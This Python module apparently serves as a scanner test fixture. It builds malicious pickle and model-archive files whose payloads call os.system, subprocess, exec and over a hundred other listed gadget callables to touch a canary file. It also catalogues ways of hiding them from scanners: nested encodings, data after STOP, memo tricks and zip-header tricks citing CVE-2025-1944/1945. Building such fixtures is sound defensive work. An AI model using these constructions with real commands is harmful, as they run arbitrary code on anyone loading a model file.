"""Malicious pickles, put together operation by operation. Whoever loads one gets a canary file and nothing else."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import numpy as np

__all__ = ["GADGETS", "GROUPS", "HARMLESS", "MALICIOUS", "call", "glob", "payload", "text", "torch_zip"]


Builder = Callable[[str], bytes]


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def glob(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stack_glob(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def command(canary: str) -> str:
    return f"touch {canary}"


def payload(canary: str) -> bytes:
    """The plainest of them, without its STOP."""
    return call(glob("os", "system"), text(command(canary)))


def ended(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


#: Functions of advisories and papers that run, load, fetch or lead to one that does: module, name.
GADGETS = [
    *[("os", name) for name in ("system", "popen", "execv", "spawnl", "remove")],
    ("posix", "system"), ("nt", "system"), ("subprocess", "Popen"), ("subprocess", "check_output"),
    ("subprocess", "getoutput"), ("commands", "getoutput"), ("_posixsubprocess", "fork_exec"), ("pty", "spawn"),
    *[("builtins", name) for name in ("eval", "exec", "compile", "__import__", "getattr", "open", "map", "globals")],
    ("__builtin__", "eval"), ("__builtin__", "apply"), ("runpy", "run_path"), ("runpy", "_run_code"),
    ("importlib", "import_module"), ("importlib.util", "spec_from_file_location"), ("pkgutil", "resolve_name"),
    ("pickle", "loads"), ("marshal", "loads"), ("shelve", "open"), ("code", "InteractiveInterpreter"),
    ("timeit", "timeit"), ("cProfile", "run"), ("profile", "run"), ("pdb", "run"), ("bdb", "Bdb"), ("trace", "Trace"),
    ("doctest", "debug_script"), ("idlelib.run", "Executive"), ("idlelib.pyshell", "ModifiedInterpreter"),
    ("lib2to3.pgen2.grammar", "Grammar.loads"), ("logging.config", "fileConfig"), ("ensurepip", "_run_pip"),
    ("distutils.file_util", "write_file"), ("pydoc", "pipepager"), ("_pyrepl.pager", "pipe_pager"),
    ("test.support.script_helper", "assert_python_ok"), ("uuid", "_get_command_stdout"), ("venv", "create"),
    ("_osx_support", "_read_output"), ("_aix_support", "_read_cmd_output"), ("multiprocessing.util", "spawnv_passfds"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("operator", "methodcaller"),
    ("operator", "attrgetter"), ("functools", "reduce"), ("itertools", "starmap.__call__"), ("types", "FunctionType"),
    ("types", "CodeType"), ("ctypes", "CDLL"), ("socket", "create_connection"), ("urllib.request", "urlopen"),
    ("http.client", "HTTPSConnection"), ("smtplib", "SMTP"), ("ftplib", "FTP"), ("webbrowser", "open"),
    ("shutil", "rmtree"), ("pathlib", "Path.unlink"), ("linecache", "getline"), ("fileinput", "input"),
    ("zipimport", "zipimporter"), ("sqlite3", "connect"), ("antigravity", "geohash"), ("typing", "get_type_hints"),
    ("dataclasses", "_create_fn"), ("collections", "namedtuple"), ("string", "Formatter.format"), ("sys", "exit"),
    ("numpy", "load"), ("numpy", "fromfile"), ("numpy", "__builtins__"), ("numpy", "testing.run_module_suite"),
    ("numpy.testing._private.utils", "runstring"), ("numpy.f2py.crackfortran", "myeval"),
    ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.ctypeslib", "load_library"), ("numpy", "DataSource"),
    ("torch", "load"), ("torch.hub", "load"), ("torch.serialization", "load"), ("torch._utils", "evil"),
    ("torch.utils.collect_env", "run"), ("torch.utils.bottleneck.__main__", "run_cprofile"),
    ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch._dynamo.guards", "GuardBuilder.get"), ("torch._inductor.codecache", "compile_file"),
    ("torch.cuda.random", "os.system"), ("torch.storage.evil", "FloatStorage"), ("torch._utilsx", "_rebuild_tensor_v2"),
    ("collections.evil", "OrderedDict"), ("collections", "OrderedDict.__init__.__globals__"),
    ("pandas", "read_csv"), ("pandas", "read_pickle"), ("pandas.io.common", "urlopen"), ("pandas", "eval"),
    ("scipy.io.wavfile", "read"), ("scipy.stats._continuous_distns", "norm_gen"), ("sklearn.datasets", "fetch_openml"),
    ("sklearn.tree._tree.evil", "Tree"), ("joblib", "load"), ("joblib.numpy_pickle", "NDArrayWrapper"),
    ("cloudpickle", "loads"), ("cloudpickle.cloudpickle", "_make_function"), ("dill", "loads"),
    ("dill._dill", "_create_code"),
    ("mlflow.projects.backend.local", "_run_entry_point"), ("keras.utils", "get_file"), ("transformers", "pipeline"),
    ("PIL.ImageShow", "show_file"), ("paramiko", "SSHClient"), ("requests", "get"), ("pip", "main"),
    ("setuptools", "setup"), ("jinja2", "Template"), ("somebody.else", "Model"), ("__main__", "Evil"),
]  # fmt: skip


def _gadget(module: str, name: str) -> Callable[[str], bytes]:
    return lambda canary: ended(call(glob(module, name), text(command(canary))))


def _encoded(encode: Callable[[bytes], bytes]) -> Callable[[str], bytes]:
    """A harmless dict with an encoded pickle as a text in it."""
    return lambda canary: ended(
        b"}" + text("weights") + text(encode(ended(payload(canary))).decode("latin-1")) + b"s"
    )


def _raw(encode: Callable[[bytes], bytes]) -> Callable[[str], bytes]:
    return lambda canary: ended(b"}" + text("weights") + data(encode(ended(payload(canary)))) + b"s", 4)


def _chain(canary: str) -> bytes:
    """exec(zlib.decompress(base64.b64decode(...)))"""
    source = base64.b64encode(zlib.compress(f"open({canary!r}, 'w')".encode()))
    decoded = call(glob("base64", "b64decode"), data(source))
    return ended(call(glob("builtins", "exec"), call(glob("zlib", "decompress"), decoded)), 3)


def _memo(canary: str) -> bytes:
    """Module and name come from the memo, behind a pile of other things."""
    return ended(
        text("os") + b"q\x00" + b"0" + text("system") + b"q\x01" + b"0" + b"]" * 3 + b"000"
        + b"h\x00h\x01\x93(" + text(command(canary)) + b"tR", 4
    )  # fmt: skip


def _object_pop(canary: str) -> bytes:
    """The object is thrown away after it has acted."""
    return ended(b"(" + glob("os", "system") + text(command(canary)) + b"o0N")


def _setstate(canary: str) -> bytes:
    """A first BUILD gives an object a `__setstate__`, a second one calls it."""
    made = call(glob("types", "SimpleNamespace"))
    return ended(
        made + b"}" + text("__setstate__") + glob("os", "system") + b"sb" + text(command(canary)) + b"b"
    )


def _setstate_harmless_name(canary: str) -> bytes:
    made = call(glob("types", "SimpleNamespace"))
    return ended(
        made
        + b"}"
        + text("__setstate__")
        + call(glob("functools", "partial"), glob("builtins", "list"))
        + b"sbNb"
    )


def _patch_global(canary: str) -> bytes:
    """BUILD on an imported class changes the class for everybody."""
    return ended(
        glob("collections", "OrderedDict") + b"}" + text("update") + glob("builtins", "list") + b"sb"
    )


def _computed_name(canary: str) -> bytes:
    name = call(glob("builtins", "str"), text("system"))
    return ended(text("os") + name + b"\x93(" + text(command(canary)) + b"tR", 4)


def _computed_call(canary: str) -> bytes:
    made = call(glob("functools", "partial"), glob("builtins", "bytearray"))
    return ended(call(made, b"K\x01"))


def _class(canary: str) -> bytes:
    return ended(call(glob("builtins", "type"), text("T"), b")", b"}"))


def _unclear_codec(canary: str) -> bytes:
    return ended(call(glob("_codecs", "encode"), text("touch"), text("zip")))


def _load_from_bytes(canary: str) -> bytes:
    return ended(call(glob("torch.storage", "_load_from_bytes"), data(ended(payload(canary)))))


def _after_stop(canary: str) -> bytes:
    return ended(b"}") + b"\0" * 40 + b"junk" + ended(payload(canary))


def _headless_after_stop(canary: str) -> bytes:
    return ended(b"}") + payload(canary) + b"."


def _expansion(canary: str) -> bytes:
    return ended(call(glob("builtins", "bytearray"), b"\x8a\x06\0\0\0\0\0\x10"))


def _frames(canary: str) -> bytes:
    body = payload(canary) + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) - 7) + body


def _deep_text(canary: str) -> bytes:
    """Base 64 inside the source that a harmless looking text holds."""
    inner = base64.b64encode(ended(payload(canary))).decode()
    return ended(text(f"import pickle, base64\npickle.loads(base64.b64decode('{inner}'))"))


def _large(canary: str) -> bytes:
    nested = ended(payload(canary))
    return ended(b"\x8e" + struct.pack("<Q", 300_000 + len(nested)) + nested + b"\0" * 300_000, 4)


def _array_region(canary: str) -> bytes:
    """joblib steps over the bytes of an array; pickle.load goes on reading them."""
    hidden = payload(canary) + b"."
    dtype = call(glob("numpy", "dtype"), text("u1"), b"\x89", b"\x88")
    state = (
        b"}("
        + text("subclass")
        + glob("numpy", "ndarray")
        + text("shape")
        + b"K"
        + bytes([len(hidden)])
        + b"\x85"
    )
    state += text("dtype") + dtype + text("allow_mmap") + b"\x88u"
    return ended(
        glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + b"0" + hidden + b"N"
    )


# ---- containers


def _zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return stream.getvalue()


def torch_zip(
    pickled: bytes, *extra: tuple[str, bytes], root: str = "archive", method: int = zipfile.ZIP_STORED
) -> bytes:
    members = [(f"{root}/data.pkl", pickled), (f"{root}/byteorder", b"little"), (f"{root}/version", b"3\n")]
    return _zip([*members, *extra], method)


HARMLESS = ended(b"}" + text("epoch") + b"K\x03s")


def _mal_zip(canary: str) -> bytes:
    return torch_zip(ended(payload(canary)))


def _script(canary: str) -> bytes:
    code = ("archive/code/__torch__.py", b"class A:\n  pass\n")
    return torch_zip(ended(payload(canary)), code, ("archive/constants.pkl", ended(b")")))


def _flagged(canary: str) -> bytes:
    """The flag for encryption is set in the directory: zipfile stops, PyTorch does not look (CVE-2025-1945)."""
    raw = bytearray(_mal_zip(canary))
    at = raw.find(b"PK\1\2")
    raw[at + 8] |= 1
    return bytes(raw)


def _renamed(canary: str) -> bytes:
    """The member's own header has another name (CVE-2025-1944)."""
    raw = _mal_zip(canary)
    return raw.replace(b"archive/data.pkl", b"archive/data.txt", 1)


def _bad_sum(canary: str) -> bytes:
    raw = bytearray(_mal_zip(canary))
    at = raw.find(b"PK\1\2")
    raw[at + 16] ^= 0xFF
    return bytes(raw)


def _twice(canary: str) -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return torch_zip(HARMLESS, ("archive/data.pkl", ended(payload(canary))))


def _hidden_member(canary: str) -> bytes:
    """A member before the others that no directory lists."""
    extra = _zip([("archive/data.pkl", ended(payload(canary)))])
    return extra[: extra.find(b"PK\1\2")] + torch_zip(HARMLESS)


def _no_directory(canary: str) -> bytes:
    raw = _mal_zip(canary)
    return raw[: raw.find(b"PK\1\2")]


def _object_array(canary: str) -> bytes:
    stream = io.BytesIO()
    np.lib.format.write_array_header_1_0(stream, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return stream.getvalue() + ended(payload(canary))


def _tar(members: list[tuple[str, bytes]]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def _legacy_torch(canary: str) -> bytes:
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"\x80\x02M\xe9\x03." + ended(b"}") + ended(payload(canary)) + ended(b"]")


def _png(canary: str) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\0" * 64 + _mal_zip(canary)


#: Name of the file → its bytes, given the path of a canary.
GADGET_CALLS: dict[str, Builder] = {
    **{f"call {module}.{name}.pkl": _gadget(module, name) for module, name in GADGETS},
}  # fmt: skip
MACHINE: dict[str, Builder] = {
    "protocol0.pkl": lambda c: b"cos\nsystem\n(S'touch " + c.encode() + b"'\ntR.",
    "protocol1.pkl": lambda c: glob("os", "system") + b"(" + text(command(c)) + b"tR.",
    "protocol4.pkl": lambda c: ended(call(stack_glob("os", "system"), text(command(c))), 4),
    "protocol5.pkl": lambda c: ended(call(stack_glob("os", "system"), text(command(c))), 5),
    "no protocol, stack global.pkl": lambda c: call(stack_glob("os", "system"), text(command(c))) + b".",
    "short strings.pkl": lambda c: ended(b"U\x02osU\x06system\x93(" + text(command(c)) + b"tR", 4),
    "inst.pkl": lambda c: ended(b"(" + text(command(c)) + b"ios\nsystem\n"),
    "obj.pkl": lambda c: ended(b"(" + glob("os", "system") + text(command(c)) + b"o"),
    "newobj.pkl": lambda c: ended(glob("subprocess", "Popen") + b"(" + text(command(c)) + b"t\x81"),
    "newobj ex.pkl": lambda c: ended(glob("subprocess", "Popen") + b"(" + text(command(c)) + b"t}\x92", 4),
    "tuple1.pkl": lambda c: ended(glob("os", "system") + text(command(c)) + b"\x85R"),
    "memo.pkl": _memo,
    "object and pop.pkl": _object_pop,
    "build twice.pkl": _setstate,
    "build twice, harmless name.pkl": _setstate_harmless_name,
    "build on a class.pkl": _patch_global,
    "setitem on a module.pkl": lambda c: ended(glob("sys", "modules") + text("torch") + glob("os", "system") + b"s"),
    "extension.pkl": lambda c: ended(b"\x82\x01(" + text(command(c)) + b"tR"),
    "computed name.pkl": _computed_name,
    "computed call.pkl": _computed_call,
    "made class.pkl": _class,
    "unclear codec.pkl": _unclear_codec,
    "dup and pop.pkl": lambda c: ended(b"N20(N0" + b"1" + payload(c)),
    "padding.pkl": lambda c: ended(b"N0" * 5_000 + payload(c)),
    "wrong frame.pkl": _frames,
    "import only.pkl": lambda c: ended(glob("os", "system")),
    "dangerous default.pkl": lambda c: ended(call(glob("collections", "defaultdict"), glob("os", "system"))),
    "dotted eval.pkl": lambda c: ended(call(stack_glob("builtins", "eval.__call__"), text("1")), 4),
    "reduce of exec chain.pkl": _chain,
    "expansion.pkl": _expansion,
}  # fmt: skip
PLACES: dict[str, Builder] = {
    "second pickle.pkl": lambda c: HARMLESS + ended(payload(c)),
    "behind the end.pkl": _after_stop,
    "behind the end without protocol.pkl": _headless_after_stop,
    "before a break.pkl": lambda c: b"\x80\x04" + payload(c) + b"\xff\xff",
    "before a break without protocol.pkl": lambda c: payload(c) + b"0" + b"\xff",
    "cut off.pkl": lambda c: b"\x80\x04" + payload(c),
    "stack underflow.pkl": lambda c: b"\x80\x04" + payload(c) + b"000R.",
    "wrong argument.pkl": lambda c: b"\x80\x02" + payload(c) + b"Fnot a number\n.",
}  # fmt: skip
INSIDE: dict[str, Builder] = {
    "nested.pkl": _raw(lambda raw: raw),
    "nested in the middle.pkl": _raw(lambda raw: b"some words " + raw),
    "nested gzip.pkl": _raw(gzip.compress),
    "nested zlib.pkl": _raw(zlib.compress),
    "nested bzip2.pkl": _raw(bz2.compress),
    "nested xz.pkl": _raw(lzma.compress),
    "nested zip.pkl": _raw(torch_zip),
    "nested text.pkl": _encoded(lambda raw: raw[2:]),
    "hex.pkl": _encoded(lambda raw: raw.hex().encode()),
    "hex with escapes.pkl": _encoded(lambda raw: "".join(f"\\x{b:02x}" for b in raw).encode()),
    "base64.pkl": _encoded(base64.b64encode),
    "base64 url.pkl": _encoded(base64.urlsafe_b64encode),
    "base64 lines.pkl": _encoded(base64.encodebytes),
    "base64 twice.pkl": _encoded(lambda raw: base64.b64encode(base64.b64encode(raw))),
    "base64 of gzip.pkl": _encoded(lambda raw: base64.b64encode(gzip.compress(raw))),
    "hex of base64.pkl": _encoded(lambda raw: base64.b64encode(raw).hex().encode()),
    "base32.pkl": _encoded(base64.b32encode),
    "base85.pkl": _encoded(base64.b85encode),
    "ascii85.pkl": _encoded(lambda raw: base64.a85encode(raw, adobe=True)),
    "base64 in source.pkl": _deep_text,
    "base64 in json.json": lambda c: b'{"policy": {":serialized:": "' + base64.b64encode(ended(payload(c))) + b'"}}',
    "load from bytes.pkl": _load_from_bytes,
    "array region.joblib": _array_region,
    "large bytes.pkl": _large,
}  # fmt: skip
CONTAINERS: dict[str, Builder] = {
    "zip.pt": _mal_zip,
    "deflated.pt": lambda c: torch_zip(ended(payload(c)), method=zipfile.ZIP_DEFLATED),
    "bzip2 method.pt": lambda c: torch_zip(ended(payload(c)), method=zipfile.ZIP_BZIP2),
    "encryption flag.pt": _flagged,
    "renamed header.pt": _renamed,
    "bad checksum.pt": _bad_sum,
    "two members of one name.pt": _twice,
    "hidden member.pt": _hidden_member,
    "no directory.pt": _no_directory,
    "bytes in front.pt": lambda c: b"#!/bin/sh\nexit\n" + _mal_zip(c),
    "bytes behind.pt": lambda c: _mal_zip(c) + b"\nmore",
    "comment.pt": lambda c: _mal_zip(c)[:-2] + b"\x0a\0" + b"0123456789",
    "extra member.pt": lambda c: torch_zip(HARMLESS, ("archive/extra/notes.txt", ended(payload(c)))),
    "storage nobody refers to.pt": lambda c: torch_zip(HARMLESS, ("archive/data/7", ended(payload(c)))),
    "two roots.pt": lambda c: torch_zip(HARMLESS, ("other/data.pkl", ended(payload(c)))),
    "torchscript.pt": _script,
    "zip in zip.zip": lambda c: _zip([("models/a.bin", _mal_zip(c))]),
    "pickle then zip.pt": lambda c: ended(payload(c)) + torch_zip(HARMLESS),
    "picture then zip.png": _png,
    "tar.pt": lambda c: _tar([("pickle", ended(payload(c))), ("storages", b"\0" * 64)]),
    "packed.tar.gz": lambda c: gzip.compress(_tar([("m/model.pkl", ended(payload(c)))])),
    "packed.joblib": lambda c: zlib.compress(ended(payload(c))),
    "packed.pkl.gz": lambda c: gzip.compress(ended(payload(c))),
    "packed.pkl.bz2": lambda c: bz2.compress(ended(payload(c))),
    "packed.pkl.xz": lambda c: lzma.compress(ended(payload(c))),
    "packed cut off.pkl.gz": lambda c: gzip.compress(ended(payload(c)) + bytes(range(256)) * 40)[:-60],
    "behind gzip.pkl.gz": lambda c: gzip.compress(HARMLESS) + ended(payload(c)),
    "two gzips.pkl.gz": lambda c: gzip.compress(HARMLESS) + gzip.compress(ended(payload(c))),
    "old torch.pth": _legacy_torch,
    "objects.npy": _object_array,
    "objects.npz": lambda c: _zip([("x.npy", _object_array(c))]),
    "seven zip.pt": lambda c: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(60),
    "rar.bin": lambda c: b"Rar!\x1a\x07\x01\0" + bytes(60),
    "not safetensors.safetensors": lambda c: ended(payload(c)),
    "not json.json": lambda c: ended(payload(c)),
    "not a text.txt": lambda c: b"cos\nsystem\n(S'touch " + c.encode() + b"'\ntR.",
    "not a picture.png": lambda c: ended(payload(c)),
    "no suffix": lambda c: ended(payload(c)),
}  # fmt: skip
GROUPS = {
    "gadgets": GADGET_CALLS,
    "the machine": MACHINE,
    "where it stands": PLACES,
    "inside its data": INSIDE,
    "containers": CONTAINERS,
}
MALICIOUS = {name: build for group in GROUPS.values() for name, build in group.items()}
